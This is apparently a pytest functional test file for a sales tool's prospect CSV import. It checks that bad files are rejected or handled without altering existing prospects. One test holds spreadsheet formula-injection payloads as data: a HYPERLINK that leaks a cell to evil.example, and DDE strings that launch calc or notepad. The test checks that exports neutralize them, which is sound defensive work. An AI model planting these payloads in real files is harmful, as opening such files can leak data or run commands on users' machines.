"""Bad prospect files through the product's entry points (moto): each gets a clear result, and
nothing already in the campaign is lost or altered.

The campaign is seeded through the real import first; its prospects (versions included) are the
snapshot every test compares against after the bad file.
"""

from __future__ import annotations

import csv
import io
import json
import random
from typing import Any
from urllib.parse import unquote, urlsplit

import boto3
import pytest

from chalicelib.domain.models import Plan
from tests.conftest import TEST_ENV
from tests.functional.conftest import (
    Tenant,
    all_prospects,
    call,
    deliver_upload,
    get_json,
    request_csv_upload,
    upload_csv,
)

BUCKET = TEST_ENV["TAILORCAST_UPLOADS_BUCKET"]

SEED = (
    "First Name,Last Name,Email,Company,Job Title,Notes\r\n"
    "Ada,Lovelace,ada@engines.io,Analytical Engines,Analyst,First customer\r\n"
    'José,Müller,jose@mueller.de,Müller GmbH,CTO,"met at DMEXCO, Köln"\r\n'
    "Grace,Hopper,grace@navy.mil,US Navy,Rear Admiral,\r\n"
    "Alan,Turing,alan@bletchley.uk,Bletchley Park,Cryptanalyst,\r\n"
    "Zoë,Brontë,zoe@bronte.co.uk,Brontë & Co,Head of Growth,VIP\r\n"
).encode()
SEEDED = 5


# --------------------------------------------------------------------------- helpers


def _by_id(prospects: list[dict[str, Any]]) -> list[dict[str, Any]]:
    return sorted(prospects, key=lambda p: p["prospect_id"])


def _preview(client: Any, tenant: Tenant, cid: str, data: bytes) -> Any:
    return call(
        client,
        "POST",
        f"/campaigns/{cid}/imports/preview?sample=5",
        tenant,
        data,
        headers={"Content-Type": "text/csv"},
    )


def _counted(client: Any, tenant: Tenant, cid: str) -> int:
    return int(get_json(client, tenant, f"/campaigns/{cid}")["counters"]["prospects"])


def _set_plan(account_id: str, plan: Plan) -> None:
    """The account's plan changed in the table (as billing does; the repository has no setter)."""
    from chalicelib import dependencies
    from chalicelib.adapters.dynamodb.models import AccountItem
    from chalicelib.adapters.dynamodb.repositories import account_pk

    accounts = dependencies.get_account_repo()  # binds the table
    AccountItem.get(account_pk(account_id), "ACCOUNT").update(actions=[AccountItem.plan.set(plan.value)])
    assert accounts.get(account_id).plan is plan


def _table_items() -> int:
    """Items in the whole table (moto keeps the count live)."""
    table = boto3.client("dynamodb").describe_table(TableName=TEST_ENV["TAILORCAST_TABLE_NAME"])["Table"]
    return int(table["ItemCount"])


def _with_email(seeded: Seeded, email: str) -> int:
    """Prospects of the campaign with this email, through the index the import's duplicate check uses."""
    from chalicelib.adapters.dynamodb.models import ProspectItem
    from chalicelib.adapters.dynamodb.repositories import campaign_pk

    pk = campaign_pk(seeded.tenant.account_id, seeded.cid)
    return int(ProspectItem.by_email.count(pk, ProspectItem.email_key == email))


def _rows(header: list[str], rows: list[list[str]]) -> bytes:
    out = io.StringIO(newline="")
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue().encode()


class Seeded:
    """A campaign holding the SEED prospects, and a snapshot of them as the API lists them."""

    def __init__(self, client: Any, tenant: Tenant, cid: str) -> None:
        self.client, self.tenant, self.cid = client, tenant, cid
        outcome, record = upload_csv(client, tenant, cid, SEED, "seed.csv")
        assert outcome["status"] == "completed" and record["imported"] == SEEDED, record
        self.snapshot = _by_id(all_prospects(client, tenant, cid))
        assert len(self.snapshot) == SEEDED
        assert {p["email"] for p in self.snapshot} == {
            "ada@engines.io",
            "jose@mueller.de",
            "grace@navy.mil",
            "alan@bletchley.uk",
            "zoe@bronte.co.uk",
        }

    def upload(self, data: bytes, filename: str = "leads.csv") -> tuple[Any, Any]:
        return upload_csv(self.client, self.tenant, self.cid, data, filename)

    def preview(self, data: bytes) -> Any:
        return _preview(self.client, self.tenant, self.cid, data)

    def assert_untouched(self, added: int = 0) -> list[dict[str, Any]]:
        """Every seeded prospect is still there, exactly as it was (version included); returns the
        prospects added since, after checking the campaign counts them."""
        after = _by_id(all_prospects(self.client, self.tenant, self.cid))
        by_id = {p["prospect_id"]: p for p in after}
        for before in self.snapshot:
            assert by_id.get(before["prospect_id"]) == before
        assert len(after) == SEEDED + added
        assert _counted(self.client, self.tenant, self.cid) == SEEDED + added
        seeded = {p["prospect_id"] for p in self.snapshot}
        return [p for p in after if p["prospect_id"] not in seeded]

    def assert_seeded_unchanged_by_id(self) -> None:
        """As :meth:`assert_untouched` for a campaign too big to list: each seeded prospect by id."""
        for before in self.snapshot:
            assert (
                get_json(self.client, self.tenant, f"/campaigns/{self.cid}/prospects/{before['prospect_id']}")
                == before
            )


@pytest.fixture
def seeded(client: Any, new_tenant: Any) -> Seeded:
    me = new_tenant()
    response = call(client, "POST", "/campaigns", me, {"name": "Q4 outreach"})
    assert response.status_code == 201, response.body
    return Seeded(client, me, json.loads(response.body)["campaign_id"])


def _rejected(outcome: Any, record: Any, reason: str) -> None:
    assert outcome["status"] == "rejected", outcome
    assert record["status"] == "rejected" and record["reason"] == reason, record
    assert (record["total_rows"], record["imported"], record["duplicates"], record["failed"]) == (0, 0, 0, 0)
    assert record["errors"] == [] and record["completed_at"] is not None


def _preview_rejected(response: Any, message: str) -> None:
    assert response.status_code == 422, response.body
    error = json.loads(response.body)["error"]
    assert (error["code"], error["message"]) == ("upload_rejected", message)


# --------------------------------------------------------------------------- whole files refused


ZIP = b"PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00" + b"[Content_Types].xml" + bytes(200)
XLS = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512)
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(64)
PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nstream\n\x00\x01\x02\x03endstream\n"
GZIP = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03" + bytes(range(1, 32)) * 4
NOISE = bytes(range(1, 9)) * 100
# Random bytes, fixed seed: only high bytes (no NUL, no control byte: not UTF-8, and read as
# Windows-1252 they are all characters), and the whole byte range less NUL and C0 controls.
_RANDOM = random.Random(20240611)
RANDOM_HIGH = bytes(b | 0x80 for b in _RANDOM.randbytes(20_000))
RANDOM_PRINTABLE = bytes(b for b in _RANDOM.randbytes(30_000) if b > 31 or b in b"\t\r\n")[:20_000]
NOT_TEXT = "this is not a text CSV file"
BINARIES = {
    "xlsx": (ZIP, "this is an Excel/zip file; export the sheet as CSV and upload that"),
    "xls": (XLS, "this is an old Excel (.xls) file; export the sheet as CSV and upload that"),
    "png": (PNG, "this is an image, not a CSV file"),
    "pdf": (PDF, "this is a PDF, not a CSV file"),
    "gzip": (GZIP, "this is a compressed (gzip) file; upload the CSV itself"),
    "control-bytes": (NOISE, NOT_TEXT),
    "random-high-bytes": (RANDOM_HIGH, NOT_TEXT),
    "random-bytes-without-controls": (RANDOM_PRINTABLE, NOT_TEXT),
    "utf8-bom-then-random-bytes": (b"\xef\xbb\xbf" + RANDOM_HIGH, NOT_TEXT),
}


@pytest.mark.parametrize("kind", BINARIES)
def test_a_binary_file_is_rejected_and_changes_nothing(seeded: Seeded, kind: str) -> None:
    data, hint = BINARIES[kind]
    # WHEN a file that is not text is uploaded
    outcome, record = seeded.upload(data, "leads.csv")
    # THEN it is rejected with a clear reason, and the campaign is as it was
    assert record["reason"] in (hint, NOT_TEXT)
    _rejected(outcome, record, record["reason"])
    seeded.assert_untouched()
    # AND the preview says what the file is
    _preview_rejected(seeded.preview(data), hint)


@pytest.mark.parametrize(
    "kind",
    [
        "xlsx",
        "control-bytes",
        "xls",
        "png",
        "pdf",
        "gzip",
        "random-high-bytes",
        "random-bytes-without-controls",
    ],
)
def test_an_uploaded_binary_file_is_named_as_the_preview_names_it(seeded: Seeded, kind: str) -> None:
    data, hint = BINARIES[kind]
    outcome, record = seeded.upload(data, "leads.csv")
    _rejected(outcome, record, hint)


def test_an_empty_file_is_refused_at_every_step(seeded: Seeded) -> None:
    client, me, cid = seeded.client, seeded.tenant, seeded.cid
    # An upload of 0 bytes is refused before any URL is handed out
    response = call(
        client,
        "POST",
        f"/campaigns/{cid}/uploads",
        me,
        {"kind": "prospects_csv", "filename": "empty.csv", "content_type": "text/csv", "size_bytes": 0},
    )
    assert response.status_code == 422, response.body
    error = json.loads(response.body)["error"]
    assert error["code"] == "invalid_input" and [f["field"] for f in error["fields"]] == ["body.size_bytes"]
    # An empty object that arrives anyway (S3 does not always enforce the policy) is rejected
    outcome, record = deliver_upload(client, me, cid, request_csv_upload(client, me, cid, 10), b"")
    _rejected(outcome, record, "the file is empty")
    # So are files of only blank lines, or only a BOM
    for blank in (b"\r\n\r\n  \r\n", b"\xef\xbb\xbf", b"\xef\xbb\xbf\r\n\r\n"):
        outcome, record = seeded.upload(blank)
        _rejected(outcome, record, "the file is empty")
        _preview_rejected(seeded.preview(blank), "the file is empty")
    _preview_rejected(seeded.preview(b""), "the file is empty")
    seeded.assert_untouched()


@pytest.mark.parametrize(
    "data",
    [
        b"First Name,Last Name,Email\r\n",
        b"\xef\xbb\xbfFirst Name,Last Name,Email",
        b"First Name,Last Name,Email\r\n\r\n,,\r\n , , \r\n",
        b"sep=;\r\nName;Email\r\n",
    ],
    ids=["header", "bom-no-newline", "blank-rows", "excel-sep-line"],
)
def test_a_file_with_only_column_names_is_rejected(seeded: Seeded, data: bytes) -> None:
    outcome, record = seeded.upload(data)
    _rejected(outcome, record, "the file has column names but no prospects")
    seeded.assert_untouched()
    _preview_rejected(seeded.preview(data), "the file has column names but no prospects")


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (
            "Name;Firma;Telefon\r\nJosé Müller;Müller GmbH;+49 30 1\r\n".encode("cp1252"),
            'no email column: the columns are "Name", "Firma", "Telefon"; name the email column "Email"',
        ),
        (
            b"First Name,Last Name,Mail Adress,Company\r\nAda,Lovelace,ada@example.com,Engines\r\n",
            'no email column: the columns are "First Name", "Last Name", "Mail Adress", "Company"; '
            'name the email column "Email"',
        ),
        (
            b"Email,Company\r\nada@example.com,Engines\r\n",
            'no first name column: the columns are "Email", "Company"; name it "First Name" (or "Name" for '
            "full names)",
        ),
    ],
    ids=["no-email-cp1252-semicolons", "misspelt-email", "no-name"],
)
def test_a_file_without_a_needed_column_is_rejected_naming_its_columns(
    seeded: Seeded, data: bytes, reason: str
) -> None:
    outcome, record = seeded.upload(data)
    _rejected(outcome, record, reason)
    seeded.assert_untouched()
    _preview_rejected(seeded.preview(data), reason)


# --------------------------------------------------------------------------- limits


def test_a_60000_row_file_imports_50000_and_says_why_not_the_rest(seeded: Seeded) -> None:
    # GIVEN an agency account (no limit on prospects per campaign)
    _set_plan(seeded.tenant.account_id, Plan.AGENCY)
    data = b"First Name,Last Name,Email,Company\r\n" + b"".join(
        b"P%d,Load,p%d@bulk.example,Bulk Co\r\n" % (i, i) for i in range(1, 60_001)
    )
    # WHEN a 60,000-row file is previewed and then uploaded
    items_before = _table_items()
    response = seeded.preview(data)
    assert _table_items() == items_before  # the preview wrote nothing
    ticket = request_csv_upload(seeded.client, seeded.tenant, seeded.cid, len(data), "big.csv")
    items_before = _table_items()
    outcome, record = deliver_upload(seeded.client, seeded.tenant, seeded.cid, ticket, data)
    # THEN the first 50,000 rows are imported and the rest counted as failed with one error
    limit = {
        "row": 50_002,
        "field": None,
        "message": "a file may hold at most 50,000 prospects: rows 50,002 to 60,001 were not imported",
    }
    warning = (
        "the file has 60,000 rows, over the 50,000-row limit: only the first 50,000 were imported; "
        "split the file and upload the rest"
    )
    assert outcome["status"] == "completed" and record["status"] == "completed", record["reason"]
    assert (record["total_rows"], record["imported"], record["duplicates"], record["failed"]) == (
        60_000,
        50_000,
        0,
        10_000,
    )
    assert record["errors"] == [limit] and record["warnings"] == [warning]
    # AND the preview had said so
    assert response.status_code == 200, response.body
    preview = json.loads(response.body)
    assert (preview["total_rows"], preview["valid"], preview["failed"]) == (60_000, 50_000, 10_000)
    assert preview["errors"] == [limit] and preview["warnings"] == [warning]
    # AND exactly 50,000 prospects were written, the file's first 50,000 (listing 50,000 items
    # back from moto takes longer than importing them: the table's item count and the email
    # index say it instead)
    assert _table_items() - items_before == 50_000
    assert [_with_email(seeded, f"p{n}@bulk.example") for n in (50_000, 50_001)] == [1, 0]
    assert _counted(seeded.client, seeded.tenant, seeded.cid) == SEEDED + 50_000
    # AND the seeded prospects are still there, unchanged
    seeded.assert_seeded_unchanged_by_id()


def test_a_trial_campaign_stops_at_its_plan_limit(seeded: Seeded) -> None:
    # GIVEN a trial campaign (100 prospects at most) already holding 30
    _set_plan(seeded.tenant.account_id, Plan.TRIAL)
    more = _rows(
        ["First Name", "Email"], [[f"Existing{i}", f"existing{i}@example.com"] for i in range(SEEDED + 1, 31)]
    )
    _, record = seeded.upload(more, "first-batch.csv")
    assert record["imported"] == 30 - SEEDED
    before = _by_id(all_prospects(seeded.client, seeded.tenant, seeded.cid))
    assert len(before) == 30
    # WHEN a 100-row file is previewed, then uploaded
    data = _rows(["First Name", "Email"], [[f"New{i}", f"new{i}@example.com"] for i in range(1, 101)])
    limit = {
        "row": 72,
        "field": None,
        "message": "the plan allows 100 prospects per campaign: this row and the valid rows after it were not "
        "imported",
    }
    warning = (
        "30 valid prospects were not imported: the plan allows 100 per campaign; upgrade to Basic (500 per "
        "campaign) or split them over campaigns"
    )
    preview = json.loads(seeded.preview(data).body)
    _, record = seeded.upload(data, "second-batch.csv")
    # THEN 70 are imported, the other 30 reported with the limit at the first one's row
    for found in (preview, record):
        assert (found["total_rows"], found["duplicates"], found["failed"]) == (100, 0, 30)
        assert found["errors"] == [limit] and found["warnings"] == [warning]
    assert preview["valid"] == 70 and record["imported"] == 70 and record["status"] == "completed"
    # AND the 30 already there are unchanged; the new ones are the file's first 70
    after = _by_id(all_prospects(seeded.client, seeded.tenant, seeded.cid))
    by_id = {p["prospect_id"]: p for p in after}
    assert all(by_id[p["prospect_id"]] == p for p in before)
    assert sorted(
        p["email"] for p in after if p["prospect_id"] not in {b["prospect_id"] for b in before}
    ) == sorted(f"new{i}@example.com" for i in range(1, 71))
    assert _counted(seeded.client, seeded.tenant, seeded.cid) == 100
    # AND a further file is refused row by row, nothing added
    _, record = seeded.upload(_rows(["First Name", "Email"], [["Late", "late@example.com"]]), "late.csv")
    assert (record["imported"], record["failed"], record["errors"][0]["row"]) == (0, 1, 2)
    assert _by_id(all_prospects(seeded.client, seeded.tenant, seeded.cid)) == after


# --------------------------------------------------------------------------- rows that look like trouble


FORMULAS = {
    "company": '=HYPERLINK("https://evil.example/?leak="&A1,"Click here")',
    "title": "@SUM(1+1)*cmd|' /C calc'!A0",
    "last_name": "+Malicious",
    "Notes": "-2+3+cmd|' /C notepad'!A0",
}


def _export_csv(seeded: Seeded) -> list[dict[str, str]]:
    """POST /campaigns/{id}/exports (CSV), then read the file its link names from S3."""
    response = call(
        seeded.client, "POST", f"/campaigns/{seeded.cid}/exports", seeded.tenant, {"format": "csv"}
    )
    assert response.status_code == 201, response.body
    url = json.loads(response.body)["url"]
    parts = urlsplit(url)
    path = unquote(parts.path).lstrip("/")
    key = path if parts.hostname and parts.hostname.startswith(BUCKET) else path.removeprefix(f"{BUCKET}/")
    data = boto3.client("s3").get_object(Bucket=BUCKET, Key=key)["Body"].read()
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_formulas_are_stored_as_data_and_neutralized_on_export(seeded: Seeded) -> None:
    # GIVEN a file whose cells hold spreadsheet formulas
    data = _rows(
        ["First Name", "Last Name", "Email", "Company", "Job Title", "Notes"],
        [
            [
                "Eve",
                FORMULAS["last_name"],
                "eve@evil.example",
                FORMULAS["company"],
                FORMULAS["title"],
                FORMULAS["Notes"],
            ]
        ],
    )
    assert b'"=HYPERLINK(""https://evil.example/?leak=""&A1,""Click here"")"' in data
    # WHEN it is previewed and uploaded
    preview = json.loads(seeded.preview(data).body)
    _, record = seeded.upload(data)
    # THEN the row is imported with every value exactly as written
    assert (record["status"], record["imported"], record["failed"], record["errors"]) == (
        "completed",
        1,
        0,
        [],
    )
    (eve,) = seeded.assert_untouched(added=1)
    stored = (eve["last_name"], eve["company"], eve["title"], eve["custom_fields"])
    assert stored == (
        FORMULAS["last_name"],
        FORMULAS["company"],
        FORMULAS["title"],
        {"Notes": FORMULAS["Notes"]},
    )
    (shown,) = preview["prospects"]
    assert (shown["company"], shown["custom_fields"]) == (FORMULAS["company"], {"Notes": FORMULAS["Notes"]})
    # AND the mail-merge export writes them as text a spreadsheet will not run
    rows = {row["email"]: row for row in _export_csv(seeded)}
    assert len(rows) == SEEDED + 1
    exported = rows["eve@evil.example"]
    assert (exported["last_name"], exported["company"], exported["title"], exported["Notes"]) == (
        "'" + FORMULAS["last_name"],
        "'" + FORMULAS["company"],
        "'" + FORMULAS["title"],
        "'" + FORMULAS["Notes"],
    )
    # while the other prospects' values come out as they are
    assert (rows["jose@mueller.de"]["company"], rows["jose@mueller.de"]["Notes"]) == (
        "Müller GmbH",
        "met at DMEXCO, Köln",
    )


def test_duplicates_differing_in_case_or_spaces_change_nothing(seeded: Seeded) -> None:
    data = _rows(
        ["First Name", "Last Name", "Email", "Company"],
        [
            ["Ada", "Byron", "  ADA@Engines.IO ", "Someone Else Ltd"],  # the seeded Ada
            ["Jose", "Mueller", "JOSE@MUELLER.DE", "Other GmbH"],  # the seeded José
            ["Linus", "Torvalds", "linus@kernel.org", "Linux Foundation"],
            ["Linus", "T.", "LINUS@Kernel.org\t", "Not This One"],  # Linus again, in this file
            ["Margaret", "Hamilton", " margaret@nasa.gov", "NASA"],
        ],
    )
    preview = json.loads(seeded.preview(data).body)
    _, record = seeded.upload(data)
    for found in (preview, record):
        assert (found["total_rows"], found["duplicates"], found["failed"], found["errors"]) == (5, 3, 0, [])
    assert preview["valid"] == 2 and record["imported"] == 2
    # The seeded Ada and José keep their names and companies; the first Linus is the one kept.
    added = seeded.assert_untouched(added=2)
    assert sorted((p["email"], p["last_name"], p["company"]) for p in added) == [
        ("linus@kernel.org", "Torvalds", "Linux Foundation"),
        ("margaret@nasa.gov", "Hamilton", "NASA"),
    ]
    # Importing it again adds nothing at all.
    _, again = seeded.upload(data)
    assert (again["total_rows"], again["imported"], again["duplicates"], again["failed"]) == (5, 0, 5, 0)
    assert seeded.assert_untouched(added=2) == added


def test_a_500_column_header_keeps_100_custom_fields(seeded: Seeded) -> None:
    header = ["First Name", "Email", *(f"Field {i}" for i in range(3, 501))]
    data = _rows(header, [["Wide", "wide@example.com", *(f"v{i}" for i in range(3, 501))]])
    preview = json.loads(seeded.preview(data).body)
    _, record = seeded.upload(data, "wide.csv")
    warning = (
        'only 100 extra columns are kept as custom fields; "Field 103" and the unmapped columns after it were '
        "ignored"
    )
    for found in (preview, record):
        assert list(found["mapping"].items()) == [
            ("First Name", "first_name"),
            ("Email", "email"),
            *((f"Field {i}", "custom") for i in range(3, 103)),
            *((f"Field {i}", "ignore") for i in range(103, 501)),
        ]
        assert found["warnings"] == [warning] and found["errors"] == []
    assert (record["status"], record["imported"]) == ("completed", 1)
    (wide,) = seeded.assert_untouched(added=1)
    assert wide["custom_fields"] == {f"Field {i}": f"v{i}" for i in range(3, 103)}


def test_a_single_row_of_500_cells_under_a_short_header(seeded: Seeded) -> None:
    data = (
        b"First Name,Email,Company\r\n"
        b"Ragged,ragged@example.com,Acme," + b",".join(b"x%d" % i for i in range(4, 501)) + b"\r\n"
        b"Normal,normal@example.com,Globex\r\n"
    )
    assert data.splitlines()[1].count(b",") == 499
    _, record = seeded.upload(data, "ragged.csv")
    assert (record["status"], record["total_rows"], record["imported"], record["errors"]) == (
        "completed",
        2,
        2,
        [],
    )
    assert record["warnings"] == [
        "some rows have more cells than the header (first: row 2); the extra cells were ignored"
    ]
    added = seeded.assert_untouched(added=2)
    assert sorted((p["first_name"], p["company"], p["custom_fields"]) for p in added) == [
        ("Normal", "Globex", {}),
        ("Ragged", "Acme", {}),
    ]


# --------------------------------------------------------------------------- mixed encodings


def test_cp1252_bytes_late_in_a_utf8_file_are_read_as_cp1252_with_a_warning(seeded: Seeded) -> None:
    # GIVEN an agency account (the file is over a trial's 100 prospects)
    _set_plan(seeded.tenant.account_id, Plan.AGENCY)
    # AND a UTF-8 file (accented names at the top) with rows pasted from a cp1252 file past 64 KB
    filler = b"".join(b"Filler%d,Row,filler%d@example.com\r\n" % (i, i) for i in range(2_500))
    data = (
        "First Name,Last Name,Email\r\nZoë,Dubois,zoe@dubois.fr\r\n".encode()
        + filler
        + "José,Müller,jose.m@example.de\r\nFrançois,Lefèvre,fl@example.fr\r\n".encode("cp1252")
    )
    assert len(data) > 64 * 1024
    _, record = seeded.upload(data, "mixed.csv")
    # THEN both parts are read right, and the seller is told which bytes were guessed
    assert (record["status"], record["encoding"], record["imported"], record["failed"]) == (
        "completed",
        "utf-8",
        2_503,
        0,
    )
    assert record["warnings"] == [
        "4 byte(s) were not valid UTF-8 and were read as Windows-1252; check accented names"
    ]
    from chalicelib import dependencies

    names = {
        p.email: (p.first_name, p.last_name)
        for p in dependencies.get_prospect_repo().iter_campaign(seeded.tenant.account_id, seeded.cid)
    }
    assert names["zoe@dubois.fr"] == ("Zoë", "Dubois")
    assert names["jose.m@example.de"] == ("José", "Müller")
    assert names["fl@example.fr"] == ("François", "Lefèvre")
    assert len(names) == SEEDED + 2_503
    seeded.assert_seeded_unchanged_by_id()


def test_cp1252_bytes_early_in_a_utf8_file_leave_its_utf8_names_intact(seeded: Seeded) -> None:
    # GIVEN a small UTF-8 file with one row pasted from a cp1252 file
    data = (
        "First Name,Last Name,Email\r\nJosé,Müller,jose.m@example.de\r\n".encode()
        + "Chloë,Dupré,chloe@example.fr\r\n".encode("cp1252")
    )
    preview = json.loads(seeded.preview(data).body)
    _, record = seeded.upload(data, "mixed.csv")
    assert (record["status"], record["imported"], record["failed"]) == ("completed", 2, 0)
    # THEN each row reads right, and the seller is warned about the guessed bytes
    added = seeded.assert_untouched(added=2)
    assert sorted((p["first_name"], p["last_name"]) for p in added) == [
        ("Chloë", "Dupré"),
        ("José", "Müller"),
    ]
    assert [(p["first_name"], p["last_name"]) for p in preview["prospects"]] == [
        ("José", "Müller"),
        ("Chloë", "Dupré"),
    ]
    assert any("Windows-1252" in w for w in record["warnings"])


def test_cp1252_bytes_in_a_utf8_file_with_a_bom_are_read_as_cp1252(seeded: Seeded) -> None:
    # GIVEN an Excel "CSV UTF-8" file (with a BOM) with one row pasted from a cp1252 file
    data = (
        "\ufeffFirst Name,Last Name,Email\r\nZoë,Dubois,zoe@dubois.fr\r\n".encode()
        + "José,Müller,jose.m@example.de\r\n".encode("cp1252")
    )
    _, record = seeded.upload(data, "mixed-bom.csv")
    assert (record["status"], record["encoding"], record["imported"]) == ("completed", "utf-8-sig", 2)
    added = seeded.assert_untouched(added=2)
    assert sorted((p["first_name"], p["last_name"]) for p in added) == [("José", "Müller"), ("Zoë", "Dubois")]
    assert record["warnings"] == [
        "2 byte(s) were not valid UTF-8 and were read as Windows-1252; check accented names"
    ]
